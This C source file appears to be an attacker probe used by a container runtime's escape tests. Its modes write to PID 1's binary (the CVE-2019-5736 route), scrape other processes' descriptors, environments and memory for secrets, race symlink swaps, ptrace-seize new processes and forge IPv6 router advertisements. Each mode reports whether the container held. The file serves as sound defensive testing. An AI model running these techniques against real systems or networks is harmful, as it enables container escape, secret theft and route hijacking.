/* An attacker inside a container, for test_escapes.sh: static, so it runs
 * in the busybox test rootfs, and made of plain syscalls. Each mode tries
 * one way out and prints ESCAPE (exit 1) when it got anywhere, "held"
 * (exit 0) when every attempt was refused.
 *
 *   escape_probe proc1 [SECRET]  open PID 1's exe (read, write), environ,
 *                                mem, cwd, root and fds; SECRET must not be
 *                                readable in any of them
 *   escape_probe fdscan SECONDS  for SECONDS, open every /proc/PID/fd/N of
 *                                every other process, and report each file
 *                                or directory that is not on one of the
 *                                container's own mounts (a host descriptor)
 *   escape_probe stdio SECRET    reopen our stdout/stderr through
 *                                /proc/self/fd and look for SECRET, which
 *                                the host wrote to that file before
 *   escape_probe swapcwd DIR SECONDS
 *                                swap DIR for a link to /proc/self/fd/N
 *                                (N = 3..40) and back, as fast as it can:
 *                                a process entering the container that
 *                                chdirs into DIR must not follow it
 *   escape_probe swapvol DIR TARGET
 *                                in a volume another container's start will
 *                                fill from its image: every entry made in
 *                                DIR is swapped at once for a link to
 *                                TARGET (a host path), so a copy that
 *                                follows it would change the host file
 *   escape_probe ra IFNAME PREFIX
 *                                send router advertisements out of IFNAME
 *                                for three seconds (whole frames, on a
 *                                packet socket), as a router would:
 *                                "take PREFIX/64 for an address, and me for
 *                                a default route" (needs CAP_NET_RAW, a
 *                                default capability); the caller checks
 *                                that no neighbour took either
 *   escape_probe capscan SECONDS SECRET [MEMSECRET]
 *                                for SECONDS, read the status and environ
 *                                of every other process: none may hold a
 *                                capability outside our bounding set, nor
 *                                SECRET in its environment (run with
 *                                CAP_SYS_PTRACE, which opens both); with
 *                                MEMSECRET, also the writable memory of
 *                                each new process, its /proc/PID/mem opened
 *                                first (the descriptor keeps the memory it
 *                                opened, even past an exec): none may hold
 *                                MEMSECRET, given in hex (so that the shell
 *                                that started the probe, whose memory
 *                                holds the command line, does not)
 *   escape_probe seize SECONDS   for SECONDS, PTRACE_SEIZE every other new
 *                                process as it appears (ptrace needs no
 *                                capability for a dumpable process of our
 *                                uid): lxr-init, as it starts a command of
 *                                lxr exec, a health check or a hook, holds
 *                                a socket to the lxr process outside and
 *                                must never be traceable; the commands it
 *                                starts are (the count shows the probe is
 *                                fast enough to catch them) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <limits.h>
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip6.h>
#include <linux/if_packet.h>
#include <sys/ioctl.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static int escapes;

static void escape(const char *what, const char *detail)
{
	printf("ESCAPE %s: %s\n", what, detail);
	fflush(stdout);
	escapes++;
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool contains(const char *buf, size_t n, const char *needle)
{
	return needle && *needle && memmem(buf, n, needle, strlen(needle));
}

/* open_escapes: that the open succeeds is already the escape. */
static void try_read(const char *path, int flags, const char *secret, bool open_escapes)
{
	char buf[65536];
	int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, buf, sizeof(buf));
	if (n > 0 && contains(buf, (size_t)n, secret))
		escape(path, "holds the secret");
	else if (open_escapes) {
		char d[128];
		snprintf(d, sizeof(d), "opened (flags 0x%x)", flags);
		escape(path, d);
	}
	close(fd);
}

static int proc1(const char *secret)
{
	static const char *const files[] = {"/proc/1/environ", "/proc/1/mem", "/proc/1/exe",
					    "/proc/1/cwd", "/proc/1/root"};
	DIR *d;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		try_read(files[i], O_RDONLY, secret, true);
	/* CVE-2019-5736: a write descriptor on the init's binary */
	{
		int fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			escape("/proc/1/exe", "opened for writing");
			close(fd);
		}
		fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
		if (fd >= 0) {
			escape("/proc/1/exe", "opened O_PATH");
			close(fd);
		}
	}
	/* Listing the names is allowed (as for any root-owned 0500
	 * directory to a DAC_OVERRIDE holder); opening what they lead to is
	 * not. */
	for (int k = 0; k < 2; k++) {
		const char *dir = k ? "/proc/1/map_files" : "/proc/1/fd";
		struct dirent *e;

		d = opendir(dir);
		while (d && (e = readdir(d))) {
			char path[512];
			if (e->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
			try_read(path, O_RDONLY, secret, true);
		}
		if (d)
			closedir(d);
	}
	return escapes ? 1 : (puts("held"), 0);
}

/* The devices of the container's own mounts: anything else a descriptor
 * leads to came from the host. */
static dev_t mounts[256];
static size_t n_mounts;

static void read_mounts(void)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[4096];

	while (f && fgets(line, sizeof(line), f) && n_mounts < 256) {
		unsigned ma, mi;
		if (sscanf(line, "%*d %*d %u:%u", &ma, &mi) == 2)
			mounts[n_mounts++] = makedev(ma, mi);
	}
	if (f)
		fclose(f);
}

static bool ours(dev_t dev)
{
	for (size_t i = 0; i < n_mounts; i++)
		if (mounts[i] == dev)
			return true;
	return false;
}

/* A file of the container's own is the one its path names in here: a
 * host file's path (the supervisor's log, its run directory) names nothing
 * here, or another file — even on a filesystem a bind mount shares. The
 * name is read again from our descriptor (fd) a few times: swapcwd renames
 * the directory it races back and forth, so a container directory's name
 * can be gone between the readlink and the stat. */
static bool ours_at(int fd, char *link, size_t size, const struct stat *st)
{
	struct stat here;
	char self[64];

	if (!ours(st->st_dev))
		return false;
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	for (int tries = 0; tries < 20; tries++) {
		ssize_t l;
		if (link[0] == '/' && stat(link, &here) == 0 && here.st_dev == st->st_dev &&
		    here.st_ino == st->st_ino)
			return true;
		usleep(100);
		l = readlink(self, link, size - 1);
		link[l > 0 ? l : 0] = '\0';
	}
	return false;
}

static void scan_once(pid_t self)
{
	DIR *proc = opendir("/proc");
	struct dirent *p;

	while (proc && (p = readdir(proc))) {
		char dir[64];
		DIR *fds;
		struct dirent *f;
		int pid = atoi(p->d_name);

		if (pid <= 0 || pid == self)
			continue;
		snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
		fds = opendir(dir);
		while (fds && (f = readdir(fds))) {
			char path[320], link[512] = "";
			struct stat st;
			int fd;

			if (f->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "%s/%s", dir, f->d_name);
			(void)!readlink(path, link, sizeof(link) - 1);
			fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_NOCTTY);
			if (fd < 0)
				fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			/* What was opened, named from here (the process may have
			 * changed the descriptor since the readlink above). */
			{
				char self[64];
				ssize_t l;
				snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
				l = readlink(self, link, sizeof(link) - 1);
				link[l > 0 ? l : 0] = '\0';
			}
			if (fstat(fd, &st) == 0 && (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode)) &&
			    !ours_at(fd, link, sizeof(link), &st)) {
				char d[1024];
				snprintf(d, sizeof(d), "%s -> %s (a host %s, %u:%u inode %lu)",
					 path, link, S_ISDIR(st.st_mode) ? "directory" : "file",
					 major(st.st_dev), minor(st.st_dev),
					 (unsigned long)st.st_ino);
				escape("fd", d);
			}
			close(fd);
		}
		if (fds)
			closedir(fds);
	}
	if (proc)
		closedir(proc);
}

static int fdscan(double seconds)
{
	double end = now() + seconds;
	long rounds = 0;

	read_mounts();
	while (now() < end && escapes < 5) {
		scan_once(getpid());
		rounds++;
	}
	if (!escapes)
		printf("held (%ld rounds)\n", rounds);
	return escapes ? 1 : 0;
}

static unsigned long long cap_field(const char *status, const char *key)
{
	const char *p = strstr(status, key);
	return p ? strtoull(p + strlen(key), NULL, 16) : 0;
}

static bool read_small(const char *path, char *buf, size_t size, ssize_t *len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	*len = fd < 0 ? -1 : read(fd, buf, size - 1);
	if (fd >= 0)
		close(fd);
	if (*len < 0)
		return false;
	buf[*len] = '\0';
	return true;
}

/* pid's writable mappings, through mem (opened before maps was read):
 * whether one holds needle */
static bool memory_holds(int pid, int mem, const char *needle)
{
	static char chunk[1 << 20];
	char path[64], line[512];
	size_t nl = strlen(needle), total = 0;
	bool found = false;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	if (!(maps = fopen(path, "re")))
		return false;
	while (!found && total < (256u << 20) && fgets(line, sizeof(line), maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[1] != 'w')
			continue;
		/* chunks overlap by the needle's length, so one across a
		 * boundary is found too */
		for (unsigned long at = lo; !found && at < hi;) {
			size_t want = hi - at < sizeof(chunk) ? hi - at : sizeof(chunk);
			ssize_t n = pread(mem, chunk, want, (off_t)at);
			if (n <= 0)
				break;
			found = contains(chunk, (size_t)n, needle);
			total += (size_t)n;
			at += (size_t)n > nl ? (size_t)n - nl : (size_t)n;
		}
	}
	fclose(maps);
	return found;
}

static char *unhex(const char *h)
{
	size_t n = strlen(h) / 2;
	char *out = calloc(n + 1, 1);

	for (size_t i = 0; out && i < n; i++) {
		unsigned v;
		if (sscanf(h + 2 * i, "%2x", &v) != 1)
			return NULL;
		out[i] = (char)v;
	}
	return out;
}

static int capscan(double seconds, const char *secret, const char *memsecret)
{
	static unsigned char scanned[1 << 16];
	long mems = 0;
	double end = now() + seconds;
	unsigned long long bounding;
	char buf[65536], path[64], d[256];
	long rounds = 0, seen = 0;
	ssize_t n;

	if (!read_small("/proc/self/status", buf, sizeof(buf), &n))
		return printf("cannot read /proc/self/status\n"), 2;
	bounding = cap_field(buf, "\nCapBnd:");
	while (now() < end && escapes < 5) {
		DIR *proc = opendir("/proc");
		struct dirent *p;

		while (proc && (p = readdir(proc))) {
			int pid = atoi(p->d_name);
			unsigned long long eff;

			if (pid <= 0 || pid == getpid())
				continue;
			/* its memory first: the earlier the open, the likelier it
			 * is a new process's, before its exec */
			if (memsecret && pid < (1 << 16) && !scanned[pid]) {
				int mem;
				scanned[pid] = 1;
				snprintf(path, sizeof(path), "/proc/%d/mem", pid);
				mem = open(path, O_RDONLY | O_CLOEXEC);
				if (mem >= 0) {
					mems++;
					if (memory_holds(pid, mem, memsecret)) {
						snprintf(d, sizeof(d),
							 "pid %d's memory holds another service's "
							 "secret",
							 pid);
						escape("memory", d);
					}
					close(mem);
				}
			}
			snprintf(path, sizeof(path), "/proc/%d/status", pid);
			if (!read_small(path, buf, sizeof(buf), &n))
				continue;
			seen++;
			eff = cap_field(buf, "\nCapEff:") | cap_field(buf, "\nCapPrm:");
			if (eff & ~bounding) {
				snprintf(d, sizeof(d),
					 "pid %d holds capabilities %llx beyond ours %llx", pid,
					 eff, bounding);
				escape("caps", d);
			}
			snprintf(path, sizeof(path), "/proc/%d/environ", pid);
			if (read_small(path, buf, sizeof(buf), &n) &&
			    contains(buf, (size_t)n, secret)) {
				snprintf(d, sizeof(d), "pid %d's environ holds the host's secret",
					 pid);
				escape("environ", d);
			}
		}
		if (proc)
			closedir(proc);
		rounds++;
	}
	if (!escapes)
		printf("held (%ld rounds, %ld processes read, %ld memories)\n", rounds, seen, mems);
	return escapes ? 1 : 0;
}

static int stdio(const char *secret)
{
	/* Opening a pipe's other end is no escape; reading the host's words
	 * is. */
	try_read("/proc/self/fd/1", O_RDONLY, secret, false);
	try_read("/proc/self/fd/2", O_RDONLY, secret, false);
	return escapes ? 1 : (puts("held"), 0);
}

static int swapcwd(const char *dir, double seconds)
{
	char real[4096], link[64];
	double end = now() + seconds;
	long n = 0;

	snprintf(real, sizeof(real), "%s.real", dir);
	while (now() < end) {
		snprintf(link, sizeof(link), "/proc/self/fd/%ld", 3 + n % 38);
		if (rename(dir, real) == 0) {
			if (symlink(link, dir) == 0) {
				usleep(200);
				unlink(dir);
			}
			rename(real, dir);
		}
		n++;
	}
	printf("swapped %ld times\n", n);
	return 0;
}

/* Seized pid: whose exe it runs (as its tracer, we may look), then let go */
static bool seized_is_init(pid_t pid)
{
	char path[64], exe[256] = "";
	ssize_t n;
	int status;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	exe[n > 0 ? n : 0] = '\0';
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid &&
	    !WIFEXITED(status) && !WIFSIGNALED(status))
		ptrace(PTRACE_DETACH, pid, 0, 0);
	return strstr(exe, "lxr-init") != NULL;
}

static int seize(double seconds)
{
	static char tried[4194304 / 8]; /* a bit per pid: seized once, or old */
	double end = now() + seconds;
	pid_t self = getpid();
	long seized = 0, rounds = 0;
	bool first = true;

	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			long pid = strtol(e->d_name, NULL, 10);
			if (pid <= 1 || pid == self || pid >= 4194304 ||
			    tried[pid / 8] & (1 << pid % 8))
				continue;
			/* the processes there when the probe started are not new */
			if (first || ptrace(PTRACE_SEIZE, (pid_t)pid, 0, 0) == 0) {
				tried[pid / 8] |= (char)(1 << pid % 8);
				if (first)
					continue;
				if (seized_is_init((pid_t)pid)) {
					escape("traced lxr-init", e->d_name);
					closedir(d);
					return 1;
				}
				seized++;
			}
		}
		if (d)
			closedir(d);
		first = false;
		rounds++;
	}
	printf("held (%ld commands traced, %ld rounds)\n", seized, rounds);
	return 0;
}

static int swapvol(const char *dir, const char *target)
{
	int in = inotify_init1(0);
	char buf[65536];
	long n = 0;

	if (in < 0 || inotify_add_watch(in, dir, IN_CREATE) < 0)
		return printf("cannot watch %s: %s\n", dir, strerror(errno)), 2;
	printf("watching\n");
	for (;;) {
		ssize_t r = read(in, buf, sizeof(buf));
		if (r <= 0)
			return 0;
		for (char *p = buf; p < buf + r;) {
			struct inotify_event *e = (void *)p;
			if (e->len && !(e->mask & IN_ISDIR) && e->name[0] != '.') {
				char tmp[PATH_MAX], dst[PATH_MAX];
				snprintf(tmp, sizeof(tmp), "%s/.s%ld", dir, n++);
				snprintf(dst, sizeof(dst), "%s/%s", dir, e->name);
				if (symlink(target, tmp) == 0 && rename(tmp, dst) < 0)
					unlink(tmp);
			}
			p += sizeof(*e) + e->len;
		}
	}
}

/* The one's complement sum of n bytes at p, added to sum. */
static uint32_t csum_add(uint32_t sum, const unsigned char *p, size_t n)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	return n & 1 ? sum + (uint32_t)(p[n - 1] << 8) : sum;
}

/* A whole Ethernet frame, written by hand on a packet socket: it goes out
 * even where the interface has IPv6 turned off (an IPv4-only network),
 * from a link-local address made up from our MAC, as a router's would. */
static int ra(const char *ifname, const char *prefix)
{
	struct {
		struct ether_header eth;
		struct ip6_hdr ip;
		struct nd_router_advert ra;
		struct nd_opt_prefix_info pi;
	} __attribute__((packed)) f = {0};
	struct ifreq ifr = {0};
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = ETH_ALEN};
	const size_t len = sizeof(f.ra) + sizeof(f.pi);
	int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), sent = 0;
	unsigned char *mac = (unsigned char *)ifr.ifr_hwaddr.sa_data, *src = f.ip.ip6_src.s6_addr;
	uint32_t sum = 0;

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0 || ioctl(s, SIOCGIFINDEX, &ifr) < 0)
		return printf("cannot send on %s: %s\n", ifname, strerror(errno)), 2;
	to.sll_ifindex = ifr.ifr_ifindex;
	memcpy(f.eth.ether_dhost, "\x33\x33\0\0\0\x01", ETH_ALEN);
	memcpy(to.sll_addr, f.eth.ether_dhost, ETH_ALEN);
	memcpy(f.eth.ether_shost, mac, ETH_ALEN);
	f.eth.ether_type = htons(ETHERTYPE_IPV6);
	f.ip.ip6_flow = htonl(6u << 28);
	f.ip.ip6_plen = htons((uint16_t)len);
	f.ip.ip6_nxt = IPPROTO_ICMPV6;
	f.ip.ip6_hlim = 255;          /* a receiver takes an advertisement only with 255 */
	src[0] = 0xfe, src[1] = 0x80; /* fe80::EUI-64 */
	src[8] = mac[0] ^ 2, src[9] = mac[1], src[10] = mac[2], src[11] = 0xff;
	src[12] = 0xfe, src[13] = mac[3], src[14] = mac[4], src[15] = mac[5];
	inet_pton(AF_INET6, "ff02::1", &f.ip.ip6_dst);
	f.ra.nd_ra_type = ND_ROUTER_ADVERT;
	f.ra.nd_ra_curhoplimit = 64;
	f.ra.nd_ra_router_lifetime = htons(1800);
	f.pi.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	f.pi.nd_opt_pi_len = 4;
	f.pi.nd_opt_pi_prefix_len = 64;
	f.pi.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	f.pi.nd_opt_pi_valid_time = htonl(86400);
	f.pi.nd_opt_pi_preferred_time = htonl(14400);
	if (inet_pton(AF_INET6, prefix, &f.pi.nd_opt_pi_prefix) != 1)
		return printf("not an IPv6 prefix: %s\n", prefix), 2;
	/* ICMPv6's checksum covers a pseudo-header: both addresses, the
	 * length and the next header */
	sum = csum_add(sum, (unsigned char *)&f.ip.ip6_src, 32);
	sum += (uint32_t)len + IPPROTO_ICMPV6;
	sum = csum_add(sum, (unsigned char *)&f.ra, len);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	f.ra.nd_ra_cksum = htons((uint16_t)~sum);
	for (int i = 0; i < 15; i++) {
		if (sendto(s, &f, sizeof(f), 0, (struct sockaddr *)&to, sizeof(to)) > 0)
			sent++;
		usleep(200000);
	}
	printf("sent %d\n", sent);
	return sent ? 0 : 2;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && !strcmp(argv[1], "proc1"))
		return proc1(argc > 2 ? argv[2] : NULL);
	if (argc >= 3 && !strcmp(argv[1], "fdscan"))
		return fdscan(atof(argv[2]));
	if (argc >= 3 && !strcmp(argv[1], "stdio"))
		return stdio(argv[2]);
	if (argc >= 4 && !strcmp(argv[1], "capscan"))
		return capscan(atof(argv[2]), argv[3], argc >= 5 ? unhex(argv[4]) : NULL);
	if (argc >= 4 && !strcmp(argv[1], "swapvol"))
		return swapvol(argv[2], argv[3]);
	if (argc >= 4 && !strcmp(argv[1], "ra"))
		return ra(argv[2], argv[3]);
	if (argc >= 3 && !strcmp(argv[1], "seize"))
		return seize(atof(argv[2]));
	if (argc >= 4 && !strcmp(argv[1], "swapcwd"))
		return swapcwd(argv[2], atof(argv[3]));
	fprintf(stderr, "usage: see the comment at the top of escape_probe.c\n");
	return 2;
}
